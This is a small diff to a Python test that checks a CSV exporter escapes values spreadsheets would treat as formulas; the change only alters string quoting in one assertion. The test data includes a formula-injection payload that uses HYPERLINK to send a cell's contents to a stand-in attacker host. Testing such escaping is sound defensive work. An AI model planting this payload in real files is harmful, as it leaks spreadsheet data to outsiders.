@@ -151,7 +151,7 @@ def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
     )
     row = next(csv.DictReader(io.StringIO(exported)))
     assert row["identifier"] == "'-f-1"
-    assert row["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
     assert row["description"] == "'+31 20 123 4567 | @SUM(1+1)"
     assert row["date"] == "'-0500"
     # values that cannot start a formula are written as they are
